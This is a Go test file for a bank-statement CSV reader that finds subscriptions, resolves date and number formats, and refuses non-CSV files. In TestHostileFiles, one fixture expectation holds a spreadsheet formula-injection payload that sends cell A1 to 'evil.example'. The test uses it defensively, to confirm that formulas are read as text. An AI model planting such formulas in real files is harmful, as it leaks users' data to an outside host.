package reader

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/nodkeep/nodkeep/tools"
)

func read(t *testing.T, text string, answers map[string]string) tools.Review {
	t.Helper()
	review, err := Read(t.Context(), File{Name: "x.csv", Data: []byte(text)}, answers)
	if err != nil {
		t.Fatal(err)
	}
	return review
}

// failure is the error of reading, which must be a refusal.
func failure(t *testing.T, data []byte, answers map[string]string) *tools.Error {
	t.Helper()
	_, err := Read(t.Context(), File{Name: "x.csv", Data: data}, answers)
	refusal, ok := errors.AsType[*tools.Error](err)
	if !ok {
		t.Fatalf("got error %v, want a refusal", err)
	}
	return refusal
}

func TestHostileFiles(t *testing.T) {
	t.Run("ambiguous dates", func(t *testing.T) {
		file := readFile(t, "testdata/bad_ambiguous_dates.csv")
		file.Currency = "EUR"
		review, err := Read(t.Context(), file, nil)
		if err != nil {
			t.Fatal(err)
		}
		if len(review.Questions) != 1 || review.Questions[0].ID != "date_order" || !cmp.Equal(review.Questions[0].Choices, []string{"DMY", "MDY"}) {
			t.Errorf("questions %v", review.Questions)
		}
		if len(review.Subscriptions) > 0 || !review.Parsed.FirstDate.IsZero() {
			t.Errorf("invented %v, first date %s", review.Subscriptions, review.Parsed.FirstDate)
		}
		for choice, first := range map[string]string{"DMY": "2026-04-05", "MDY": "2026-05-04"} {
			review, err := Read(t.Context(), file, map[string]string{"date_order": choice})
			if err != nil || len(review.Questions) > 0 || review.Parsed.FirstDate.String() != first {
				t.Errorf("%s: first date %s, questions %v, error %v; want %s", choice, review.Parsed.FirstDate, review.Questions, err, first)
			}
		}
	})
	for name, key := range map[string]string{"binary": "reader.refused", "empty": "reader.empty", "header_only": "reader.no_transactions"} {
		data, err := os.ReadFile("testdata/bad_" + name + ".csv")
		if err != nil {
			t.Fatal(err)
		}
		if got := failure(t, data, nil); got.Kind != tools.Invalid || got.Text.Key != key {
			t.Errorf("%s: %v %v, want %s", name, got.Kind, got, key)
		}
	}
	t.Run("formulas are text", func(t *testing.T) {
		file := readFile(t, "testdata/bad_formula.csv")
		file.Currency = "EUR"
		review, err := Read(t.Context(), file, nil)
		if err != nil {
			t.Fatal(err)
		}
		i := match(review.Subscriptions, make([]bool, 9), `=hyperlink("http://evil.example/?x="&a1,"netflix")`, "9.99", "2026-09-05")
		if i < 0 || review.Subscriptions[i].Cycle.String() != "P1M" || !strings.Contains(strings.ToLower(review.Subscriptions[i].Merchant), "hyperlink") {
			t.Errorf("the formula was not read as text: %+v", review.Subscriptions)
		}
	})
}

func TestRefusedByContent(t *testing.T) {
	for kind, data := range map[string]string{
		"pdf":         "\r\n%PDF-1.7\n%\xe2\xe3",
		"image":       "\xff\xd8\xff\xe0\x00\x10JFIF",
		"spreadsheet": "PK\x03\x04\x14\x00\x06\x00[Content_Types].xml",
		"zip":         "PK\x03\x04\x14\x00\x06\x00statement.xml",
		"old_excel":   "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
		"ofx":         "OFXHEADER:100\nDATA:OFXSGML\n\n<OFX>",
		"camt":        "<?xml version=\"1.0\"?><Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\">",
		"html":        "  <html><body><table><tr><td>Date",
		"xml":         "<?xml version=\"1.0\"?><x/>",
		"qif":         "!Type:Bank\nD04/04/2026\nT-9.99\nPNETFLIX\n^\n",
		"mt940":       "{1:F01}{4:\n:20:STARTUMS\n:25:DE00\n:60F:C260101EUR0,00\n",
		"json":        "{\"transactions\": []}",
		"rtf":         "{\\rtf1\\ansi",
		"binary":      "Date,Name,Amount\n2026-01-01,A\x00B,1.00\n",
	} {
		e := failure(t, []byte(data), nil)
		if e.Kind != tools.Invalid || e.Text.Key != "reader.refused" || !cmp.Equal(e.Text.Args[0], any(tools.T("reader.kind."+kind))) {
			t.Errorf("%s: %v", kind, e)
		}
	}
	if e := failure(t, []byte("\ufeff \r\n"), nil); e.Text.Key != "reader.empty" {
		t.Errorf("blank: %v", e)
	}
	if e := failure(t, []byte("Dear customer,\nyour statement is attached.\n"), nil); e.Text.Key != "reader.no_table" {
		t.Errorf("letter: %v", e)
	}
	if e := failure(t, []byte("Date,Description,Category\n2026-01-01,A,B\n2026-01-02,C,D\n"), nil); e.Text.Key != "reader.column_missing" {
		t.Errorf("no amounts: %v", e)
	}
	if e := failure(t, make([]byte, MaxBytes+1), nil); e.Kind != tools.TooLarge {
		t.Errorf("too large: %v", e)
	}
}

func TestTooManyRows(t *testing.T) {
	data := []byte("Date,Name,Amount\n" + strings.Repeat("2026-01-01,A,-1.00\n", MaxRows+1))
	if e := failure(t, data, nil); e.Kind != tools.TooLarge || e.Text.Key != "reader.too_many_rows" {
		t.Errorf("got %v", e)
	}
}

func TestAnswers(t *testing.T) {
	const file = "Datum;Name;Betrag EUR\n01.02.2026;A;-1,00\n14.02.2026;B;2,00\n"
	for _, c := range []struct {
		answers map[string]string
		key     string
	}{
		{map[string]string{"colour": "red"}, "reader.answer.unknown"},
		{map[string]string{"date_order": "YDM"}, "reader.answer.choice"},
		{map[string]string{"currency": "EURO"}, "reader.answer.choice"},
		{map[string]string{"sign": "both"}, "reader.answer.choice"},
		{map[string]string{"date_order": "MDY"}, "reader.answer.against"},
		{map[string]string{"currency": "USD"}, "reader.answer.against"},
	} {
		if e := failure(t, []byte(file), c.answers); e.Kind != tools.Invalid || e.Text.Key != c.key {
			t.Errorf("%v: %v, want %s", c.answers, e, c.key)
		}
	}
	// An answer that was not asked for but agrees is welcome: it was kept from
	// an earlier export of the same bank.
	if r := read(t, file, map[string]string{"date_order": "DMY", "currency": "EUR", "sign": "negative"}); len(r.Questions) > 0 {
		t.Errorf("asks %v", r.Questions)
	}
}

func TestQuestions(t *testing.T) {
	months := func(format string) string {
		s := "Date,Description,Amount\n"
		for m := 1; m <= 6; m++ {
			s += fmt.Sprintf(format, m)
		}
		return s
	}
	t.Run("currency", func(t *testing.T) {
		file := months("2026-%02d-05,GYM,-9.99\n")
		r := read(t, file, nil)
		if len(r.Questions) != 1 || r.Questions[0].ID != "currency" || len(r.Subscriptions) > 0 || r.Parsed.SumOut != "59.94" {
			t.Errorf("questions %v, subscriptions %v, out %s", r.Questions, r.Subscriptions, r.Parsed.SumOut)
		}
		r = read(t, file, map[string]string{"currency": "NZD"})
		if len(r.Questions) > 0 || len(r.Subscriptions) != 1 || r.Subscriptions[0].Currency != "NZD" {
			t.Errorf("answered: %+v", r)
		}
	})
	t.Run("the household's currency stands for none", func(t *testing.T) {
		for _, c := range []struct{ file, household, currency string }{
			{months("2026-%02d-05,GYM,-9.99\n"), "NZD", "NZD"},
			{months("2026-%02d-05,GYM,-9.99 EUR\n"), "NZD", "EUR"},
			{months("2026-%02d-05,GYM,$-9.99\n"), "USD", "USD"},
			{months("2026-%02d-05,GYM,$-9.99\n"), "EUR", ""}, // not euros, but which dollars?
		} {
			review, err := Read(t.Context(), File{Data: []byte(c.file), Currency: c.household}, nil)
			if err != nil || review.Parsed.Currency != c.currency || (c.currency == "") != (len(review.Questions) == 1) {
				t.Errorf("%.40q in a household with %s: %s, asks %v, %v", c.file, c.household, review.Parsed.Currency, review.Questions, err)
			}
		}
	})
	t.Run("sign", func(t *testing.T) {
		file := months("2026-%02d-05,GYM,9.99 €\n")
		r := read(t, file, nil)
		if len(r.Questions) != 1 || r.Questions[0].ID != "sign" || len(r.Subscriptions) > 0 {
			t.Errorf("questions %v, subscriptions %v", r.Questions, r.Subscriptions)
		}
		if r = read(t, file, map[string]string{"sign": "positive"}); len(r.Subscriptions) != 1 || r.Parsed.SumOut != "59.94" {
			t.Errorf("positive: %+v", r)
		}
		if r = read(t, file, map[string]string{"sign": "negative"}); len(r.Subscriptions) != 0 || r.Parsed.SumIn != "59.94" {
			t.Errorf("negative: %+v", r)
		}
	})
}

// TestNumbers holds the reader to what went wrong elsewhere: thousands read as
// decimals, one decimal place read as thousands, signs of all kinds.
func TestNumbers(t *testing.T) {
	for _, c := range []struct{ cells, out string }{
		{"-3.000|-4,5", "3004.50"},
		{"-3.000|-1.250|-65", "4315.00"}, // who writes three places writes them always
		{"-3.000|-0.250", "3.25"},
		{"-3,000|-1234,567", "1237.57"},
		{"-110.7 €|-1.25 €", "111.95"},
		{"-1.234.567,89|-1", "1234568.89"},
		{"-1'234.50|-0.50", "1235.00"},
		{"(12.34)|12.66-", "25.00"},
		{"-€10.99|-£", "10.99"},
		{"1,234.00 DR|1.00DR", "1235.00"},
		{"\u22125,00|\u201310,00", "15.00"},
		{"-12,50 kr|-1 000,00 kr", "1012.50"},
		{`"=""-1.234,50"""|"=""-1,50"""`, "1236.00"},
	} {
		text := "Datum;Name;Betrag\n"
		for i, cell := range strings.Split(c.cells, "|") {
			text += fmt.Sprintf("%02d.03.2026;A;%s\n", 20+i, cell)
		}
		r := read(t, text, map[string]string{"currency": "EUR"})
		if r.Parsed.SumOut != c.out {
			t.Errorf("%s: %s, want %s (%s)", c.cells, r.Parsed.SumOut, c.out, r.Format)
		}
	}
}

func TestDates(t *testing.T) {
	for _, c := range []struct{ dates, first, last string }{
		{"01/02/2026|13/02/2026", "2026-02-01", "2026-02-13"},
		{"01/02/2026|01/13/2026", "2026-01-02", "2026-01-13"},
		{"01.02.2026|03.02.2026", "2026-02-01", "2026-02-03"},
		{"10/01/2026|11/01/2026|01/02/2026", "2026-01-10", "2026-02-01"}, // sorted one way only
		{"26/01/30|26/02/01", "2026-01-30", "2026-02-01"},
		{"30/01/26|01/02/26", "2026-01-30", "2026-02-01"},
		{"Apr 07, 2026|Apr 8, 2026", "2026-04-07", "2026-04-08"},
		{"7. April 2026|8. Mai 2026", "2026-04-07", "2026-05-08"},
		{"07-Dez-2025|08-Okt-2026", "2025-12-07", "2026-10-08"},
		{"20260407|20260408", "2026-04-07", "2026-04-08"},
		{"2026-04-07T23:59:59Z|2026-04-08 00:00:00.0", "2026-04-07", "2026-04-08"},
		{"29.02.2024|31.02.2026|01.03.2026", "2024-02-29", "2026-03-01"},
	} {
		text := "Date\tName\tAmount\n"
		for _, d := range strings.Split(c.dates, "|") {
			text += d + "\tA\t-1.00 EUR\n"
		}
		r := read(t, text, nil)
		if len(r.Questions) > 0 || r.Parsed.FirstDate.String() != c.first || r.Parsed.LastDate.String() != c.last {
			t.Errorf("%s: %s to %s, asks %v", c.dates, r.Parsed.FirstDate, r.Parsed.LastDate, r.Questions)
		}
	}
	// Both orders are in the file: the more frequent one is read, the rest named.
	mixed := read(t, "Date,Name,Amount (EUR)\n13/04/2026,A,-1.00\n14/05/2026,A,-1.00\n06/17/2026,A,-1.00\n", nil)
	if mixed.Parsed.Transactions != 2 || len(mixed.Skipped) == 0 || mixed.Skipped[0].Line != 4 {
		t.Errorf("mixed orders: %+v", mixed)
	}
	r := read(t, "Statement 01/04/2026 - 30/06/2026\n\nDate,Name,Amount (EUR)\n05/04/2026,A,-1.00\n07/05/2026,A,-1.00\n06/06/2026,A,-1.00\n", nil)
	if r.Parsed.FirstDate.String() != "2026-04-05" {
		t.Errorf("the period above the table decides: got %s, asks %v", r.Parsed.FirstDate, r.Questions)
	}
}

func TestQuotes(t *testing.T) {
	const head = "Date,Name,Amount (EUR)\n"
	for name, c := range map[string]struct {
		rows string
		text string // of the first row
		n    int
	}{
		"line break inside":        {"2026-01-02,\"A\nB, C\",-1.00\n2026-01-03,D,-1.00\n", "A B, C", 2},
		"doubled":                  {"2026-01-02,\"say \"\"hi\"\"\",-1.00\n", `say "hi"`, 1},
		"stray inside":             {"2026-01-02,\"Bar \"Zum Eck\" Mitte\",-1.00\n2026-01-03,D,-1.00\n", `Bar "Zum Eck" Mitte`, 2},
		"stray, unquoted":          {"2026-01-02,6\" PIPE,-1.00\n2026-01-03,D,-1.00\n", `6" PIPE`, 2},
		"never closed":             {"2026-01-02,\"A,-1.00\n2026-01-03,B,-1.00\n2026-01-04,\"C\",-1.00\n", `"A`, 3},
		"never closed, last":       {"2026-01-02,\"A,-1.00\n", `"A`, 1},
		"carriage returns":         {"2026-01-02,\"A\",-1.00\r\r\n2026-01-03,B,-1.00\r\r\n", "A", 2},
		"control and bidi letters": {"2026-01-02,A\x07B\u202eC\u200b\u2066,-1.00\n", "A BC", 1},
		"long":                     {"2026-01-02," + strings.Repeat("ab ", 400_000) + ",-1.00\n2026-01-03,B,-1.00\n", "", 2},
		"long, quoted":             {"2026-01-02,\"" + strings.Repeat("ab ", 100_000) + "\",-1.00\n2026-01-03,B,-1.00\n", "", 2},
	} {
		st, err := csv{}.parse(t.Context(), File{Data: []byte(head + c.rows)}, nil)
		if err != nil || len(st.rows) != c.n {
			t.Errorf("%s: %d rows, want %d, error %v, skipped %v", name, len(st.rows), c.n, err, st.skipped)
			continue
		}
		if got := st.rows[0].text; c.text != "" && got != c.text || len(got) > maxText+8 {
			t.Errorf("%s: text %.60q, want %q", name, got, c.text)
		}
	}
}

func TestSkipped(t *testing.T) {
	r := read(t, "My bank\n\nDate,Name,Status,Amount (EUR)\n2026-01-02,A,Completed,-1.00\n2026-01-03,B,PENDING,-1.00\n2026-01-04,C,Declined,-1.00\n2026-01-05,Closing balance,,100.00\n2026-02-31,D,,-1.00\n2026-01-06,E,,abc\n,more text,,\nTotal,,,5.00\nDisclaimer: none\n", nil)
	got := map[int]string{}
	for _, s := range r.Skipped {
		got[s.Line] = strings.TrimPrefix(s.Reason.Key, "reader.skipped.")
	}
	want := map[int]string{0: "short", 1: "above", 5: "pending", 6: "declined", 7: "balance", 8: "date", 9: "amount", 10: "note", 11: "balance", 12: "note"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if r.Parsed.Transactions != 1 {
		t.Errorf("%d transactions", r.Parsed.Transactions)
	}
	many := read(t, "Date,Name,Amount (EUR)\n2026-01-02,A,-1.00\n"+strings.Repeat("nothing,,\n", 3000), nil)
	if n := len(many.Skipped); n != maxListed+2 || many.Skipped[n-2].Reason.Key != "reader.skipped.more" {
		t.Errorf("%d skipped lines listed", n)
	}
}

// identity is what a row is, whichever export it comes from; n tells apart rows
// that are equal in one export: two parking tickets of one day are two.
func identity(r *row, n int) string {
	return fmt.Sprint(r.day, r.amount, r.currency, fold(r.text), n)
}

// TestOverlap joins two exports of one account that share some days: rows of
// both count once, but two equal rows of one export are two.
func TestOverlap(t *testing.T) {
	a, b := readFile(t, "testdata/overlap_a.csv"), readFile(t, "testdata/overlap_b.csv")
	distinct := map[string]bool{}
	for _, file := range []File{a, b} {
		st, err := csv{}.parse(t.Context(), file, nil)
		if err != nil {
			t.Fatal(err)
		}
		counts := map[string]int{}
		for i := range st.rows {
			key := identity(&st.rows[i], 0)
			counts[key]++
			distinct[identity(&st.rows[i], counts[key])] = true
		}
	}
	if len(distinct) != 96 {
		t.Errorf("%d distinct rows, want 96", len(distinct))
	}
	review := read(t, string(a.Data)+string(b.Data), nil)
	if review.Parsed.Transactions != 96 || len(review.Duplicates) != 55+53-96 {
		t.Errorf("joined: %d transactions, %d duplicates", review.Parsed.Transactions, len(review.Duplicates))
	}
	parking := 0
	for _, line := range strings.Split(string(a.Data), "\n") {
		parking += strings.Count(line, "PARKHAUS MITTE")
	}
	if i := match(review.Subscriptions, make([]bool, 9), "spielekiste", "7.50", "2026-09-10"); i < 0 || review.Subscriptions[i].Occurrences != 6 || parking != 2 {
		t.Errorf("joined: %+v, %d parking rows", review.Subscriptions, parking)
	}
}

func TestDuplicateIDs(t *testing.T) {
	r := read(t, "Date,Name,Amount (EUR),Transaction ID\n2026-01-02,A,-1.00,7\n2026-01-02,A,-1.00,7\n2026-01-03,A,-1.00,7\n2026-01-02,A,-2.00,7\n2026-01-02,A,-1.00,8\n", nil)
	if diff := cmp.Diff([]tools.Duplicate{{Line: 3, Of: 2}}, r.Duplicates); diff != "" || r.Parsed.Transactions != 4 {
		t.Errorf("%d transactions, duplicates %s", r.Parsed.Transactions, diff)
	}
}

func TestReadTwiceIsEqual(t *testing.T) {
	file := readFile(t, "testdata/two_years_de.csv")
	first, err := Read(t.Context(), file, nil)
	if err != nil {
		t.Fatal(err)
	}
	for range 5 {
		again, err := Read(t.Context(), file, nil)
		if diff := cmp.Diff(first, again); diff != "" || err != nil {
			t.Fatal(err, diff)
		}
	}
	if len(first.Fingerprint) != 64 {
		t.Errorf("fingerprint %q", first.Fingerprint)
	}
}

// TestShuffled reads a statement whose rows stand in another sequence: what is
// found does not depend on it where days differ.
func TestShuffled(t *testing.T) {
	file := readFile(t, "testdata/two_years_de.csv")
	want, err := Read(t.Context(), file, nil)
	if err != nil {
		t.Fatal(err)
	}
	lines := bytes.SplitAfter(bytes.TrimRight(file.Data, "\r\n"), []byte("\n"))
	lines[len(lines)-1] = append(lines[len(lines)-1], '\n')
	r := rand.New(rand.NewPCG(3, 4))
	for range 5 {
		rows := lines[1:]
		r.Shuffle(len(rows), func(i, j int) { rows[i], rows[j] = rows[j], rows[i] })
		got, err := Read(t.Context(), File{Name: file.Name, Data: bytes.Join(lines, nil)}, nil)
		if err != nil {
			t.Fatal(err)
		}
		for i := range got.Subscriptions {
			got.Subscriptions[i].Evidence, want.Subscriptions[min(i, len(want.Subscriptions)-1)].Evidence = nil, nil
		}
		if diff := cmp.Diff(want.Parsed, got.Parsed) + cmp.Diff(want.Subscriptions, got.Subscriptions); diff != "" {
			t.Fatal(diff)
		}
	}
}

func TestStopsWithContext(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := Read(ctx, File{Data: bigStatement(5000)}, nil)
	if !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}
